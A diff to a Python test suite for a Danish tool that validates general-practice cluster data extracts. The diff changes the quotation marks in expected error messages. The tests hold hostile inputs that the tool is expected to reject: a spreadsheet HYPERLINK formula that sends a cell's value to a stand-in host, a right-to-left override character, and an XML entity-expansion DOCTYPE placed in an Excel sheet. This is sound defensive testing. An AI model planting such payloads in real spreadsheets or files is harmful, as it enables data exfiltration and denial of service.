@@ -95,8 +95,8 @@ def test_demo_extract_gives_one_file_per_cluster_of_five_or_more(demo_run):
     result, target = demo_run
     assert result.returncode == 0, result.stderr
     assert sorted(path.name for path in target.iterdir()) == sorted(FILES.values())
-    assert "Klyngen «Klynge Vest (fiktiv)» har kun 3 praksis og får ingen fil" in result.stdout
-    assert "Kolonnen «region» er ikke brugt" in result.stdout
+    assert "Klyngen »Klynge Vest (fiktiv)« har kun 3 praksis og får ingen fil" in result.stdout
+    assert "Kolonnen »region« er ikke brugt" in result.stdout
     for name in FILES.values():
         assert f"  - {name}" in result.stdout
 
@@ -209,7 +209,7 @@ def test_cp1252_extract_says_how_to_save_it(tmp_path):
     result = klyngedata(tmp_path / "ansi.csv", tmp_path / "ud", *FIXED)
     assert result.returncode == 1
     assert "ansi.csv, række 2: filen er ikke gemt som UTF-8" in result.stderr
-    assert "«CSV UTF-8 (kommasepareret) (*.csv)»" in result.stderr
+    assert "»CSV UTF-8 (kommasepareret) (*.csv)«" in result.stderr
     assert not (tmp_path / "ud").exists()
 
 
@@ -218,15 +218,15 @@ def test_bad_extract_names_every_problem_and_writes_nothing(tmp_path):
     assert result.returncode == 1
     assert "Der er ikke skrevet nogen filer. Ret 9 fejl i udtrækket" in result.stderr
     expected = [
-        "række 3, kolonne «antal»: «2500,5» er ikke et helt tal",
-        "række 5: ydernummer 990102 har et andet antal tilmeldte («4100») end i række 4 («4000»)",
+        "række 3, kolonne »antal«: »2500,5« er ikke et helt tal",
+        "række 5: ydernummer 990102 har et andet antal tilmeldte (»4100«) end i række 4 (»4000«)",
         "række 6: ydelseskode 0999 bruges ikke i klyngepakken",
-        "række 7, kolonne «klynge»: feltet er tomt",
-        "række 8, kolonne «tilmeldte»: «abc» er ikke et tal",
+        "række 7, kolonne »klynge«: feltet er tomt",
+        "række 8, kolonne »tilmeldte«: »abc« er ikke et tal",
         "række 9: ydernummer 990104 har ydelseskode 0101 igen (første gang i række 8)",
-        "række 10, kolonne «antal»: «-3» er negativt",
-        "række 11: ydernummer 990105 har en anden klynge («Klynge Fejl (fiktiv)») end i række 10",
-        "række 13, kolonne «ydernummer»: feltet er tomt",
+        "række 10, kolonne »antal«: »-3« er negativt",
+        "række 11: ydernummer 990105 har en anden klynge (»Klynge Fejl (fiktiv)«) end i række 10",
+        "række 13, kolonne »ydernummer«: feltet er tomt",
     ]
     lines = [line for line in result.stderr.splitlines() if line.startswith("  - ")]
     assert len(lines) == len(expected)
@@ -240,15 +240,15 @@ def test_missing_column_and_misspelt_open_cluster(tmp_path):
     extract = pd.read_csv(DEMO, sep=";", encoding="utf-8-sig", dtype=str)
     extract.drop(columns="Klynge").to_csv(tmp_path / "uden.csv", sep=";", index=False)
     result = klyngedata(tmp_path / "uden.csv", tmp_path / "ud", *FIXED)
-    assert result.returncode == 1 and "uden.csv, række 1: kolonnen «klynge» mangler" in result.stderr
+    assert result.returncode == 1 and "uden.csv, række 1: kolonnen »klynge« mangler" in result.stderr
     result = klyngedata(DEMO, tmp_path / "ud", *FIXED, "--aabne", "Klynge Nrod (fiktiv)")
     assert result.returncode == 1
-    assert "AABNE nævner klyngen «Klynge Nrod (fiktiv)», som ikke er i udtrækket" in result.stderr
+    assert "AABNE nævner klyngen »Klynge Nrod (fiktiv)«, som ikke er i udtrækket" in result.stderr
     extract.drop(columns="Praksis").to_csv(tmp_path / "uden-navne.csv", sep=";", index=False)
     result = klyngedata(tmp_path / "uden-navne.csv", tmp_path / "ud", *FIXED, "--aabne", "Klynge Syd (fiktiv)")
     assert result.returncode == 1
     assert (
-        "Klyngen «Klynge Syd (fiktiv)» skal have åbne data, men udtrækket har ikke alle dens praksis' navne"
+        "Klyngen »Klynge Syd (fiktiv)« skal have åbne data, men udtrækket har ikke alle dens praksis' navne"
         in result.stderr
     )
     result = klyngedata(DEMO, tmp_path / "ud", *FIXED, "--pakke", "antibiotika")
@@ -330,8 +330,8 @@ def renamed(tmp_path, cluster: str, practice: str | None = None):
 @pytest.mark.parametrize(
     ("cluster", "practice", "message"),
     [
-        ('=HYPERLINK("http://127.0.0.2/?d="&B2,"Klik")', None, "begynder med «=», som et regneark læser som en formel"),
-        ("Klynge Syd (fiktiv)", "+1+1", "Praksis «+1+1» i klyngen «Klynge Syd (fiktiv)» begynder med «+»"),
+        ('=HYPERLINK("http://127.0.0.2/?d="&B2,"Klik")', None, "begynder med »=«, som et regneark læser som en formel"),
+        ("Klynge Syd (fiktiv)", "+1+1", "Praksis »+1+1« i klyngen »Klynge Syd (fiktiv)« begynder med »+«"),
         ("Klynge\u202eSyd", None, "usynligt tegn (U+202E)"),
         ("K" * 300, None, "er 300 tegn langt; et navn har højst 80 tegn"),
     ],
@@ -383,7 +383,7 @@ def test_a_practice_alone_in_its_size_is_named_before_an_anonymous_file_is_sent(
     _, _, practice_rows = sections(tmp_path / "ud" / "klynge-lille-fiktiv.csv")
     letter = next(row[0] for row in practice_rows[1:] if row[1] == "1468")
     assert warning == (
-        f"Bemærk: klyngen «Klynge Lille (fiktiv)» har anonyme data, men {letter} er den eneste praksis af sin "
+        f"Bemærk: klyngen »Klynge Lille (fiktiv)« har anonyme data, men {letter} er den eneste praksis af sin "
         "størrelse (1.468 tilmeldte; nærmeste 6.050), så kolleger i klyngen kan nok se, hvem det er. Spørg klyngen, "
         "før du sender filen."
     )
@@ -422,7 +422,7 @@ def xlsx_with(tmp_path, name: str, change) -> Path:
             lambda xml: xml.replace(
                 b"<worksheet", b'<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><worksheet', 1
             ),
-            "Excel-arket indeholder definitioner («<!DOCTYPE» i xl/worksheets/sheet1.xml)",
+            "Excel-arket indeholder definitioner (»<!DOCTYPE« i xl/worksheets/sheet1.xml)",
         ),
         (
             "luft.xlsx",
